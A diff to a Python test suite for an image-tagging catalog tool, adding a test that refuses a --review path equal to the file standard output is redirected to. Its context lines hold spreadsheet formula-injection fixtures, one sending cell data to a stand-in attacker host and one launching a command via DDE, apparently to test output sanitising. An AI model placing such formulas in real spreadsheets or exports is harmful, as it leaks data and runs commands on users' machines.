@@ -4,6 +4,8 @@ and CSVs that name this machine's files, resume files of any shape, spreadsheet 
 import csv
 import json
 import os
+import subprocess
+import sys
 import time
 import unicodedata
 from collections import Counter
@@ -14,6 +16,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from catalog import calls, client, results, sources, tag
+from harness import REPO
 from harness.servers import Quiet, reply, serving
 from lambda_fn.answers import shape_problem
 
@@ -36,6 +39,7 @@ WRONG_SHAPES = {
     "confident-string": json.dumps({**PREDICTION, "confident": "yes"}),
     "error-string": json.dumps({"error": "boom"}),
 }
+PYTHONPATH = {**os.environ, "PYTHONPATH": str(REPO)}
 FORMULAS = {
     "formula-label": '=HYPERLINK("http://attacker.invalid/?d="&A1,"click")',
     "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -384,7 +388,15 @@ def test_review_naming_outs_file_by_another_spelling_is_refused(tmp_path, monkey
         review.hardlink_to(out) if spelling == "hard-link" else review.symlink_to(out)
     with pytest.raises(SystemExit):
         tag.parse_args(["x.jpg", "--endpoint", "http://127.0.0.1:9", "--out", str(out), "--review", str(review)])
-    assert "is --out's file under another name" in capsys.readouterr().err
+    assert "is the same file as --out (tags.jsonl)" in capsys.readouterr().err
+
+
+def test_review_naming_the_file_standard_output_goes_to_is_refused(tmp_path):
+    out = tmp_path / "tags.jsonl"
+    command = [sys.executable, "-m", "catalog.tag", "x.jpg", "--endpoint", "http://127.0.0.1:9", "--review", str(out)]
+    with out.open("w") as stdout:  # python -m catalog.tag ... --review tags.jsonl > tags.jsonl
+        done = subprocess.run(command, stdout=stdout, stderr=subprocess.PIPE, text=True, env=PYTHONPATH, timeout=60)
+    assert done.returncode == 2 and "is the same file as --out (standard output)" in done.stderr
 
 
 def test_results_naming_an_input_are_refused_and_files_of_their_own_are_not(tmp_path, capsys):
